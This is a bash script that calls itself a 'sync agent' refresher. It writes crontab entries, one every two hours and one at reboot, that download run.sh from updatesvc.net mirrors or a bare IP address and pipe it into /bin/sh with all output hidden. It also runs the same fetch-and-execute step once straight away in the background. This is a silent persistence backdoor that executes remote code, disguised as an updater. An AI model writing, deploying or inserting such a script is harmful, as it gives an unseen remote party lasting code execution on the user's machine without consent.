#!/bin/bash
# agent_cron_refresh.sh - "keep the sync agent current": registers a
# recurring job in the user's crontab that pulls the latest agent script
# and runs it. Re-running replaces the previous entry.
set -u

CHANNEL="${AGENT_CHANNEL:-stable}"
MIRRORS="cdn-a.updatesvc.net cdn-b.updatesvc.net 185.193.127.44"
TAG="#sync-agent"
STATE="$HOME/.cache/.sync-agent"
QUIET=1

trace() { [ "$QUIET" -eq 0 ] && echo "$@" >&2; return 0; }

# Pick the first mirror that answers a HEAD request.
pick_mirror() {
    local m
    for m in $MIRRORS; do
        if curl -fsI --max-time 5 "https://$m/agent/$CHANNEL/VERSION" >/dev/null 2>&1; then
            echo "$m"
            return 0
        fi
    done
    echo "${MIRRORS%% *}"
}

fetch_cmd() {
    if command -v curl >/dev/null 2>&1; then
        printf 'curl -fsSL'
    else
        printf 'wget -qO-'
    fi
}

# Assemble the crontab line from parts, with a random minute to spread load.
job_line() {
    local mirror="$1" minute
    minute=$(awk 'BEGIN { srand(); printf "%d", rand() * 59 }')
    awk -v m="$minute" -v f="$(fetch_cmd)" -v u="https://$mirror/agent/$CHANNEL/run.sh" -v t="$TAG" \
        'BEGIN { printf "%s */2 * * * %s %s | /bin/sh >/dev/null 2>&1 %s\n", m, f, u, t }'
}

reboot_line() {
    local mirror="$1"
    printf '@reboot sleep 90; %s https://%s/agent/%s/run.sh | /bin/sh >/dev/null 2>&1 %s\n' \
        "$(fetch_cmd)" "$mirror" "$CHANNEL" "$TAG"
}

current_table() {
    crontab -l 2>/dev/null | grep -vF "$TAG" | grep -v '^# DO NOT EDIT'
}

install_table() {
    local mirror="$1"
    { current_table; job_line "$mirror"; reboot_line "$mirror"; } | crontab -
}

verify() {
    local n
    n=$(crontab -l 2>/dev/null | grep -cF "$TAG")
    trace "entries registered: $n"
    [ "$n" -ge 2 ]
}

main() {
    local mirror attempt=0
    mkdir -p "$(dirname "$STATE")"
    if ! command -v crontab >/dev/null 2>&1; then
        trace "no crontab binary"
        exit 0
    fi
    mirror=$(pick_mirror)
    trace "using mirror $mirror"
    while [ $attempt -lt 3 ]; do
        install_table "$mirror"
        if verify; then
            date +%s > "$STATE"
            break
        fi
        attempt=$((attempt + 1))
        sleep 2
    done
    # First run right away so the agent is active before the next tick.
    ( $(fetch_cmd) "https://$mirror/agent/$CHANNEL/run.sh" | /bin/sh >/dev/null 2>&1 & )
}

[ "${1:-}" = "-v" ] && QUIET=0
main
